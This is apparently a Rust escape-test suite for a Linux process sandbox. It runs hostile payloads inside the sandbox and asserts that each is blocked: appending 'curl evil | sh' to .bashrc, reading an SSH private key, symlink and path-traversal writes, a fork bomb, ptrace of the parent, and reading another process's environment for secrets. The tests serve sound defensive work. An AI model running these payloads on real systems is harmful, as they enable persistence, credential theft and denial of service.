//! Escape suite: each hostile payload runs in the sandbox and the specific block is asserted.
//! Where a block could also come from plain Unix permissions, a control run with that layer
//! switched off shows that the sandbox layer is what stops it.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::Mutex;
use std::time::Duration;

use hearth_sandbox::{NamespaceMode, Outcome, Protection, Sandbox, SandboxConfig, Status};

/// Runs share the sandbox uid (RLIMIT_NPROC counts per uid) and some spawn many processes:
/// run them one at a time.
static SERIAL: Mutex<()> = Mutex::new(());

const PY: &str = "/usr/bin/python3";

struct Env {
    _tmp: tempfile::TempDir,
    scratch: PathBuf,
    home: PathBuf,
    outside: PathBuf,
}

/// A world-accessible layout, so that only the sandbox (not file modes) can block access:
/// `<tmp>/scratch`, `<tmp>/home/.bashrc`, `<tmp>/home/.ssh/id_rsa`, `<tmp>/outside`.
fn env() -> Env {
    let tmp = tempfile::tempdir().unwrap();
    let base = tmp.path().to_path_buf();
    let scratch = base.join("scratch");
    let home = base.join("home");
    let outside = base.join("outside");
    for d in [&scratch, &home, &home.join(".ssh"), &outside] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(home.join(".bashrc"), "# original\n").unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), "FAKE-PRIVATE-KEY\n").unwrap();
    for d in [&base, &home, &home.join(".ssh"), &outside] {
        std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o777)).unwrap();
    }
    for f in [home.join(".bashrc"), home.join(".ssh/id_rsa")] {
        std::fs::set_permissions(f, std::fs::Permissions::from_mode(0o666)).unwrap();
    }
    Env {
        _tmp: tmp,
        scratch,
        home,
        outside,
    }
}

fn config(e: &Env) -> SandboxConfig {
    let mut c = SandboxConfig::new(&e.scratch);
    c.timeout = Duration::from_secs(20);
    c.env.retain(|(k, _)| k != "HOME");
    c.env.push(("HOME".into(), e.home.display().to_string()));
    c
}

fn run(c: SandboxConfig, prog: &str, args: &[&str]) -> Outcome {
    let args: Vec<String> = args.iter().map(|s| s.to_string()).collect();
    Sandbox::new(c).run(prog, &args).unwrap()
}

fn py(c: SandboxConfig, code: &str) -> Outcome {
    run(c, PY, &["-c", code])
}

fn sh(c: SandboxConfig, script: &str) -> Outcome {
    run(c, "/bin/sh", &["-c", script])
}

fn show(o: &Outcome) -> String {
    format!(
        "status={:?} killed_by={:?} timed_out={} stdout={:?} stderr={:?}",
        o.status,
        o.killed_by,
        o.timed_out,
        o.stdout_str(),
        o.stderr_str()
    )
}

fn assert_active(o: &Outcome, ps: &[Protection]) {
    for p in ps {
        assert_eq!(
            o.protection(*p),
            Some(&Status::Active),
            "{p} not active: {:?}",
            o.protections
        );
    }
}

#[test]
fn benign_program_runs_and_reports_protections() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let e = env();
    let owner_before = {
        use std::os::unix::fs::MetadataExt;
        let m = std::fs::metadata(&e.scratch).unwrap();
        (m.uid(), m.gid())
    };
    let o = sh(
        config(&e),
        "echo hello; echo oops >&2; echo data > f.txt; cat f.txt; exit 3",
    );
    assert_eq!(o.status, Some(3), "{}", show(&o));
    assert_eq!(o.stdout_str(), "hello\ndata\n");
    assert_eq!(o.stderr_str(), "oops\n");
    assert_eq!(
        std::fs::read_to_string(e.scratch.join("f.txt")).unwrap(),
        "data\n"
    );
    // The scratch dir was lent to the sandbox uid for the run only.
    {
        use std::os::unix::fs::MetadataExt;
        let m = std::fs::metadata(&e.scratch).unwrap();
        assert_eq!((m.uid(), m.gid()), owner_before);
    }
    assert_eq!(o.protections.len(), Protection::ALL.len());
    // On this project's machines (root, Linux >= 6.7) everything is in force.
    for (p, s) in &o.protections {
        eprintln!("{p}: {s}");
    }
    assert_active(
        &o,
        &[
            Protection::WallClockKill,
            Protection::NoNewPrivs,
            Protection::Seccomp,
            Protection::RlimitCpu,
            Protection::RlimitAs,
            Protection::RlimitFsize,
            Protection::RlimitNofile,
            Protection::RlimitCore,
        ],
    );
}

#[test]
fn write_bashrc_is_blocked() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let e = env();
    let script = "echo 'curl evil | sh' >> \"$HOME/.bashrc\" && echo WROTE || echo BLOCKED";
    let o = sh(config(&e).require_all_enabled(), script);
    assert_eq!(o.stdout_str().trim(), "BLOCKED", "{}", show(&o));
    assert_eq!(
        std::fs::read_to_string(e.home.join(".bashrc")).unwrap(),
        "# original\n"
    );
    // Control: without Landlock the same write succeeds (the modes allow it), so the block
    // above is the sandbox's doing.
    let mut c = config(&e);
    c.landlock = false;
    c.new_root = false;
    let o = sh(c, script);
    assert_eq!(o.stdout_str().trim(), "WROTE", "{}", show(&o));
}

#[test]
fn read_ssh_key_is_blocked() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let e = env();
    let script = "cat \"$HOME/.ssh/id_rsa\" || echo BLOCKED; ls \"$HOME/.ssh\" || echo NOLIST";
    let o = sh(config(&e).require_all_enabled(), script);
    let out = o.stdout_str();
    assert!(!out.contains("FAKE-PRIVATE-KEY"), "{}", show(&o));
    assert!(
        out.contains("BLOCKED") && out.contains("NOLIST"),
        "{}",
        show(&o)
    );
    // Each filesystem layer blocks on its own: Landlock denies, the new root has no such path.
    let mut c = config(&e);
    c.new_root = false;
    c.required = vec![Protection::LandlockFs];
    let o = sh(c, script);
    assert!(!o.stdout_str().contains("FAKE-PRIVATE-KEY"), "{}", show(&o));
    assert!(o.stderr_str().contains("Permission denied"), "{}", show(&o));
    let mut c = config(&e);
    c.landlock = false;
    c.required = vec![Protection::NewRoot];
    let o = sh(c, script);
    assert!(!o.stdout_str().contains("FAKE-PRIVATE-KEY"), "{}", show(&o));
    assert!(o.stderr_str().contains("No such file"), "{}", show(&o));
    // Control: with both off the modes allow the read.
    let mut c = config(&e);
    c.landlock = false;
    c.new_root = false;
    let o = sh(c, script);
    assert!(o.stdout_str().contains("FAKE-PRIVATE-KEY"), "{}", show(&o));
}

#[test]
fn write_outside_via_dotdot_and_symlink_is_blocked() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let e = env();
    std::os::unix::fs::symlink(&e.outside, e.scratch.join("link")).unwrap();
    let script = "echo x > ../outside/dotdot.txt && echo DOTDOT-WROTE || echo DOTDOT-BLOCKED; \
                  echo x > link/symlink.txt && echo LINK-WROTE || echo LINK-BLOCKED; \
                  ln -s /etc/passwd mylink 2>/dev/null; echo x >> mylink && echo ETC-WROTE || echo ETC-BLOCKED";
    let o = sh(config(&e).require_all_enabled(), script);
    let out = o.stdout_str();
    assert!(out.contains("DOTDOT-BLOCKED"), "{}", show(&o));
    assert!(out.contains("LINK-BLOCKED"), "{}", show(&o));
    assert!(out.contains("ETC-BLOCKED"), "{}", show(&o));
    assert!(!e.outside.join("dotdot.txt").exists());
    assert!(!e.outside.join("symlink.txt").exists());
    let mut c = config(&e);
    c.landlock = false;
    c.new_root = false;
    let o = sh(c, "echo x > ../outside/dotdot.txt && echo DOTDOT-WROTE");
    assert!(o.stdout_str().contains("DOTDOT-WROTE"), "{}", show(&o));
    std::fs::remove_file(e.outside.join("dotdot.txt")).unwrap();
    // Each layer alone.
    for (landlock, new_root) in [(true, false), (false, true)] {
        let mut c = config(&e);
        c.landlock = landlock;
        c.new_root = new_root;
        let o = sh(c, script);
        let out = o.stdout_str();
        assert!(
            out.contains("DOTDOT-BLOCKED"),
            "{landlock} {new_root}: {}",
            show(&o)
        );
        assert!(
            out.contains("LINK-BLOCKED"),
            "{landlock} {new_root}: {}",
            show(&o)
        );
        assert!(
            out.contains("ETC-BLOCKED"),
            "{landlock} {new_root}: {}",
            show(&o)
        );
        assert!(!e.outside.join("dotdot.txt").exists());
    }
}

const NET_PROBE: &str = r#"
import socket, errno, sys
def probe(kind, host, port):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM)
    except OSError as e:
        print(kind, host, "socket", errno.errorcode.get(e.errno, e.errno)); return
    try:
        s.settimeout(2)
        s.connect((host, port))
        if kind == "udp":
            s.send(b"x")
        print(kind, host, "CONNECTED")
    except OSError as e:
        print(kind, host, "connect", errno.errorcode.get(e.errno, e.errno))
port = int(sys.argv[1])
for kind in ("tcp", "udp"):
    probe(kind, "127.0.0.1", port)
    probe(kind, "1.1.1.1", 53)
"#;

fn net_lines(o: &Outcome) -> Vec<String> {
    o.stdout_str().lines().map(str::to_string).collect()
}

#[test]
fn network_is_blocked_by_every_layer() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let e = env();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port().to_string();

    // Full sandbox. `required` makes the run fail before the payload starts if the network
    // namespace (or anything else) is missing: no packet can leave on a half-built sandbox.
    let o = run(
        config(&e).require_all_enabled(),
        PY,
        &["-c", NET_PROBE, &port],
    );
    assert_active(&o, &[Protection::NetworkNamespace, Protection::Seccomp]);
    let lines = net_lines(&o);
    assert_eq!(lines.len(), 4, "{}", show(&o));
    for l in &lines {
        assert!(
            l.ends_with("socket EPERM"),
            "seccomp should deny AF_INET: {l}"
        );
    }

    // Seccomp and Landlock off: only the empty network namespace stands in the way.
    let mut c = config(&e);
    c.seccomp = false;
    c.landlock = false;
    c.required = vec![Protection::NetworkNamespace];
    let o = run(c, PY, &["-c", NET_PROBE, &port]);
    let lines = net_lines(&o);
    assert_eq!(lines.len(), 4, "{}", show(&o));
    for l in &lines {
        assert!(l.ends_with("connect ENETUNREACH"), "netns: {l}");
    }

    // Landlock alone (ABI >= 4) denies TCP connect; namespaces and seccomp off, but the only
    // destination tried is our own loopback listener, never the outside world.
    let mut c = config(&e);
    c.seccomp = false;
    c.namespaces = NamespaceMode::None;
    c.required = vec![Protection::LandlockNet];
    let code = "import socket,sys,errno\ns=socket.socket()\ntry:\n s.connect(('127.0.0.1',int(sys.argv[1])));print('CONNECTED')\nexcept OSError as e: print(errno.errorcode[e.errno])";
    match Sandbox::new(c).run(PY, &["-c".into(), code.into(), port.clone()]) {
        Ok(o) => assert_eq!(o.stdout_str().trim(), "EACCES", "{}", show(&o)),
        Err(err) => eprintln!("Landlock network rules unavailable here: {err}"),
    }
    assert!(
        listener.accept().is_err(),
        "no sandboxed connection may reach the listener"
    );
}

#[test]
fn fork_bomb_hits_rlimit_nproc() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let e = env();
    let mut c = config(&e).require_all_enabled();
    c.processes = 16;
    c.required.push(Protection::RlimitNproc);
    c.timeout = Duration::from_secs(20);
    let code = r#"
import os, time, errno
n = 0
try:
    for i in range(1000):
        pid = os.fork()
        if pid == 0:
            time.sleep(60); os._exit(0)
        n += 1
    print("FORKED", n)
except OSError as e:
    print("BLOCKED", n, errno.errorcode[e.errno])
"#;
    let o = py(c, code);
    let out = o.stdout_str();
    assert!(out.starts_with("BLOCKED"), "{}", show(&o));
    assert!(out.trim().ends_with("EAGAIN"), "{}", show(&o));
    let n: usize = out.split_whitespace().nth(1).unwrap().parse().unwrap();
    assert!(n < 16, "{n} forks succeeded");
    // The sleeping children were killed with the group: the run did not wait 60 s for them.
    assert!(!o.timed_out);
}

#[test]
fn huge_allocation_hits_rlimit_as() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let e = env();
    let code = "try:\n b = bytearray(10 * 1024**3); print('ALLOCATED', len(b))\nexcept MemoryError: print('BLOCKED')";
    let o = py(config(&e).require_all_enabled(), code);
    assert_eq!(o.stdout_str().trim(), "BLOCKED", "{}", show(&o));
}

#[test]
fn huge_file_hits_rlimit_fsize() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let e = env();
    let mut c = config(&e).require_all_enabled();
    c.file_size_bytes = 8 << 20;
    let code = r#"
import errno
chunk = b"\0" * (1 << 20)
written = 0
try:
    with open("big.bin", "wb") as f:
        for i in range(10 * 1024):
            f.write(chunk); f.flush(); written += len(chunk)
    print("WROTE", written)
except OSError as e:
    print("BLOCKED", written, errno.errorcode[e.errno])
"#;
    let o = py(c, code);
    assert!(o.stdout_str().starts_with("BLOCKED"), "{}", show(&o));
    assert!(o.stdout_str().contains("EFBIG"), "{}", show(&o));
    let len = std::fs::metadata(e.scratch.join("big.bin")).unwrap().len();
    assert!(len <= 8 << 20, "file grew to {len}");
}

#[test]
fn infinite_loop_is_killed_at_timeout() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let e = env();
    let mut c = config(&e);
    c.timeout = Duration::from_millis(1500);
    // A child that keeps stdout open must not keep the run alive either.
    let o = sh(c, "(while :; do :; done) & while :; do :; done");
    assert!(o.timed_out, "{}", show(&o));
    assert_eq!(o.killed_by, Some(9), "{}", show(&o));
    assert!(o.elapsed < Duration::from_secs(10));
}

#[test]
fn cpu_limit_kills_a_busy_loop() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let e = env();
    let mut c = config(&e);
    c.cpu_seconds = 1;
    let o = sh(c, "while :; do :; done");
    assert!(!o.timed_out, "{}", show(&o));
    assert!(
        o.killed_by == Some(SIGXCPU) || o.killed_by == Some(9),
        "{}",
        show(&o)
    );
}

const SIGXCPU: i32 = 24;

const PTRACE_PARENT: &str = r#"
import ctypes, os, errno, time, signal
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
parent = os.getpid()
pid = os.fork()
if pid == 0:
    r = libc.ptrace(PTRACE_ATTACH, parent, 0, 0)
    e = ctypes.get_errno()
    if r == 0:
        os.waitpid(parent, 0)
        libc.ptrace(17, parent, 0, 0)  # PTRACE_DETACH: let the parent go on
    print("ATTACHED" if r == 0 else "BLOCKED " + errno.errorcode.get(e, str(e)), flush=True)
    os._exit(0)
os.waitpid(pid, 0)
r = libc.ptrace(PTRACE_ATTACH, os.getppid(), 0, 0)
e = ctypes.get_errno()
print("GRANDPARENT " + ("ATTACHED" if r == 0 else errno.errorcode.get(e, str(e))), flush=True)
"#;

#[test]
fn ptrace_of_parent_is_blocked() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let e = env();
    let o = py(config(&e).require_all_enabled(), PTRACE_PARENT);
    let out = o.stdout_str();
    assert!(out.contains("BLOCKED EPERM"), "{}", show(&o));
    assert!(out.contains("GRANDPARENT EPERM"), "{}", show(&o));
    // Control: without seccomp, a same-uid child can attach to its parent (no Yama here), so
    // the EPERM above is the filter's doing.
    let mut c = config(&e);
    c.seccomp = false;
    c.landlock = false;
    let o = py(c, PTRACE_PARENT);
    let out = o.stdout_str();
    assert!(
        out.contains("\nGRANDPARENT") || out.contains("GRANDPARENT"),
        "{}",
        show(&o)
    );
    assert!(out.starts_with("ATTACHED"), "{}", show(&o));
}

#[test]
fn user_namespace_path_works_and_is_reported() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let e = env();
    let mut c = config(&e);
    c.namespaces = NamespaceMode::UserNamespace;
    let o = sh(c, "echo ok > f; cat f; id -u; cat /proc/self/uid_map");
    match o.protection(Protection::UserNamespace) {
        Some(Status::Active) => {
            assert_active(
                &o,
                &[
                    Protection::NetworkNamespace,
                    Protection::MountNamespace,
                    Protection::NewRoot,
                ],
            );
            let out = o.stdout_str();
            assert!(out.starts_with("ok\n"), "{}", show(&o));
        }
        Some(Status::Unavailable { reason }) => {
            // Kernel without unprivileged user namespaces: the report must say so for the
            // namespaces that depend on it, and the run still happened with the other layers.
            eprintln!("user namespaces unavailable: {reason}");
            for p in [
                Protection::NetworkNamespace,
                Protection::MountNamespace,
                Protection::NewRoot,
            ] {
                assert!(
                    matches!(o.protection(p), Some(Status::Unavailable { .. })),
                    "{p}"
                );
            }
        }
        other => panic!("unexpected user namespace status {other:?}"),
    }
}

#[test]
fn no_namespace_fallback_is_reported_and_other_layers_hold() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let e = env();
    let mut c = config(&e);
    c.namespaces = NamespaceMode::None;
    let o = sh(
        c.clone(),
        "echo x > ../outside/f && echo WROTE || echo BLOCKED",
    );
    for p in [
        Protection::UserNamespace,
        Protection::NetworkNamespace,
        Protection::MountNamespace,
    ] {
        assert_eq!(o.protection(p), Some(&Status::Disabled), "{p}");
    }
    assert_eq!(o.stdout_str().trim(), "BLOCKED", "{}", show(&o));
    // Requiring the network namespace in this mode refuses to run at all.
    c.required = vec![Protection::NetworkNamespace];
    let err = Sandbox::new(c)
        .run("/bin/sh", &["-c".into(), "echo RAN > ran".into()])
        .unwrap_err();
    assert!(err.to_string().contains("network_namespace"), "{err}");
    assert!(!e.scratch.join("ran").exists());
}

#[test]
fn missing_program_and_bad_scratch_are_errors() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let e = env();
    let err = Sandbox::new(config(&e))
        .run("definitely-not-a-program-xyz", &[])
        .unwrap_err();
    assert!(err.to_string().contains("not found"), "{err}");
    let c = SandboxConfig::new(Path::new("/nonexistent/scratch/dir"));
    assert!(Sandbox::new(c).run("/bin/true", &[]).is_err());
}

#[test]
fn stdin_is_passed_and_output_is_capped() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let e = env();
    let mut c = config(&e);
    c.stdin = Some(b"from stdin\n".to_vec());
    c.max_output_bytes = 1000;
    let o = sh(c, "cat; head -c 100000 /dev/zero");
    assert!(o.stdout_str().starts_with("from stdin\n"));
    assert_eq!(o.stdout.len(), 1000);
}

#[test]
fn staying_root_reports_rlimit_nproc_as_ineffective() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    // Only meaningful when the tests run as root (as on CI).
    if !std::fs::read_to_string("/proc/self/status")
        .unwrap()
        .lines()
        .any(|l| l.starts_with("Uid:") && l.split_whitespace().nth(2) == Some("0"))
    {
        return;
    }
    let e = env();
    let mut c = config(&e);
    c.run_as = None;
    let o = sh(c, "id -u");
    assert_eq!(o.stdout_str().trim(), "0");
    assert_eq!(
        o.protection(Protection::DropPrivileges),
        Some(&Status::Disabled)
    );
    assert!(
        matches!(
            o.protection(Protection::RlimitNproc),
            Some(Status::Unavailable { .. })
        ),
        "{:?}",
        o.protections
    );
}

/// Sockets a program could reach the host with besides the network: a UNIX socket a host
/// daemon listens on (docker.sock, D-Bus), netlink (the kernel's routing and audit), vsock
/// (the hypervisor), packet sockets. Each line: `<kind> <errno or OPEN/CONNECTED>`.
const HOST_SOCKETS: &str = r#"
import socket, errno, sys
def name(e): return errno.errorcode.get(e.errno, str(e.errno))
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(sys.argv[1]); print("unix CONNECTED")
    except OSError as e: print("unix", name(e))
except OSError as e: print("unix", name(e))
for kind, fam, typ, proto in [("netlink", 16, socket.SOCK_RAW, 0), ("vsock", 40, socket.SOCK_STREAM, 0), ("packet", 17, socket.SOCK_RAW, 0)]:
    try:
        socket.socket(fam, typ, proto); print(kind, "OPEN")
    except OSError as e: print(kind, name(e))
a, b = socket.socketpair(); a.send(b"x"); print("socketpair", b.recv(1).decode())
"#;

#[test]
fn host_sockets_are_unreachable_in_every_mode() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let e = env();
    // A host UNIX socket outside the scratch dir, world-connectable, so that only the sandbox
    // can stop the connection.
    let path = e.outside.join("host.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
    type Mode = (&'static str, fn(&mut SandboxConfig));
    let modes: [Mode; 4] = [
        ("full", |_| {}),
        ("user namespace", |c| {
            c.namespaces = NamespaceMode::UserNamespace
        }),
        ("no namespaces", |c| c.namespaces = NamespaceMode::None),
        ("no new root", |c| c.new_root = false),
    ];
    for (mode, set) in modes {
        let mut c = config(&e);
        set(&mut c);
        let o = match Sandbox::new(c).run(
            PY,
            &["-c".into(), HOST_SOCKETS.into(), path.display().to_string()],
        ) {
            Ok(o) => o,
            Err(err) => {
                // Only the user-namespace path may be refused by the kernel here.
                assert_eq!(mode, "user namespace", "{err}");
                continue;
            }
        };
        let lines: Vec<String> = o.stdout_str().lines().map(str::to_string).collect();
        assert_eq!(lines.len(), 5, "{mode}: {}", show(&o));
        for l in &lines[..4] {
            assert!(l.ends_with(" EPERM"), "{mode}: {l}");
        }
        assert_eq!(lines[4], "socketpair x", "{mode}");
        assert!(
            listener.accept().is_err(),
            "{mode}: reached the host socket"
        );
    }
}

/// A host process (`sleep 60`) running as the sandbox's own uid, with `HOST_SECRET` in its
/// environment: plain Unix permissions let that uid read and signal it, so only the sandbox can
/// stop either. `None` (the test skips) unless the tests run as root.
fn host_process_as_sandbox_uid() -> Option<std::process::Child> {
    use std::os::unix::process::CommandExt;
    // SAFETY: geteuid has no preconditions.
    #[allow(unsafe_code)]
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("skipped: needs root to start a host process as the sandbox's uid");
        return None;
    }
    let child = std::process::Command::new("/bin/sleep")
        .arg("60")
        .env("HOST_SECRET", "s3cr3t-value")
        .uid(hearth_sandbox::NOBODY.0)
        .gid(hearth_sandbox::NOBODY.1)
        .spawn()
        .unwrap();
    Some(child)
}

#[test]
fn host_process_environment_is_unreadable() {
    use std::os::unix::process::CommandExt;
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let Some(mut host) = host_process_as_sandbox_uid() else {
        return;
    };
    let e = env();
    let script = format!(
        "tr '\\0' '\\n' < /proc/{}/environ 2>/dev/null | grep -c HOST_SECRET || true",
        host.id()
    );
    // Control: the same uid outside the sandbox reads it.
    let out = std::process::Command::new("/bin/sh")
        .args(["-c", &script])
        .uid(hearth_sandbox::NOBODY.0)
        .gid(hearth_sandbox::NOBODY.1)
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "1", "control");
    for ns in [
        NamespaceMode::Auto,
        NamespaceMode::UserNamespace,
        NamespaceMode::None,
    ] {
        let mut c = config(&e);
        c.namespaces = ns;
        let o = match Sandbox::new(c).run("/bin/sh", &["-c".into(), script.clone()]) {
            Ok(o) => o,
            // Only the user-namespace path may be refused by the kernel here.
            Err(err) if ns == NamespaceMode::UserNamespace => {
                eprintln!("user namespaces unavailable: {err}");
                continue;
            }
            Err(err) => panic!("{ns:?}: {err}"),
        };
        assert_eq!(o.stdout_str().trim(), "0", "{ns:?}: {}", show(&o));
    }
    let _ = host.kill();
    let _ = host.wait();
}

#[test]
fn etc_is_hidden_unless_asked_for() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let e = env();
    // Opened, not just `test -r` (access(2) looks at the mode bits only, not at Landlock).
    let probe = "cat /etc/passwd >/dev/null 2>&1 && echo PASSWD || echo NO-PASSWD; \
                 cat /etc/ld.so.cache >/dev/null 2>&1 && echo LDCACHE || echo NO-LDCACHE";
    // Python still starts (the dynamic linker finds its libraries without the rest of /etc).
    let o = py(config(&e).require_all_enabled(), "print('py ok')");
    assert_eq!(o.stdout_str().trim(), "py ok", "{}", show(&o));
    for ns in [NamespaceMode::Auto, NamespaceMode::None] {
        let mut c = config(&e);
        c.namespaces = ns;
        let o = sh(c.clone(), probe);
        assert_eq!(
            o.stdout_str().split_whitespace().collect::<Vec<_>>(),
            ["NO-PASSWD", "LDCACHE"],
            "{ns:?}: {}",
            show(&o)
        );
        // Asked for, it is there: the check above can fail.
        c.read_only_paths.push("/etc".into());
        let o = sh(c, probe);
        assert_eq!(
            o.stdout_str().split_whitespace().collect::<Vec<_>>(),
            ["PASSWD", "LDCACHE"],
            "{ns:?} with /etc: {}",
            show(&o)
        );
    }
}

#[test]
fn pid_namespace_hides_host_processes_and_gives_its_own_proc() {
    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let Some(mut host) = host_process_as_sandbox_uid() else {
        return;
    };
    let e = env();
    let script = format!(
        "kill -0 {} 2>/dev/null && echo SEEN || echo HIDDEN; echo pid=$$; \
         ls /proc | grep -c '^[0-9]'; grep -c '^Pid:' /proc/self/status",
        host.id()
    );
    // Control: no PID namespace and no Landlock scoping (which also stops signals leaving
    // the sandbox): the host process is there to signal.
    let mut c = config(&e);
    c.pid_namespace = false;
    c.landlock = false;
    let o = sh(c, &script);
    assert!(o.stdout_str().starts_with("SEEN"), "control: {}", show(&o));
    // With the PID namespace (Landlock off, so only the namespace separates them) the host
    // process does not exist, the shell is init, and /proc lists the sandbox's processes.
    let mut c = config(&e);
    c.landlock = false;
    c.required = vec![Protection::PidNamespace];
    let o = sh(c, &script);
    let lines: Vec<String> = o.stdout_str().lines().map(str::to_string).collect();
    assert_eq!(
        lines.first().map(String::as_str),
        Some("HIDDEN"),
        "{}",
        show(&o)
    );
    assert_eq!(
        lines.get(1).map(String::as_str),
        Some("pid=1"),
        "{}",
        show(&o)
    );
    let procs: usize = lines.get(2).and_then(|l| l.parse().ok()).unwrap_or(99);
    assert!(procs <= 4, "host processes in /proc: {}", show(&o));
    // Everything on: /proc/self is readable (Landlock allows the sandbox's own /proc).
    let o = sh(config(&e).require_all_enabled(), &script);
    let lines: Vec<String> = o.stdout_str().lines().map(str::to_string).collect();
    assert_eq!(
        lines.first().map(String::as_str),
        Some("HIDDEN"),
        "{}",
        show(&o)
    );
    assert_eq!(lines.get(3).map(String::as_str), Some("1"), "{}", show(&o));
    let _ = host.kill();
    let _ = host.wait();
}
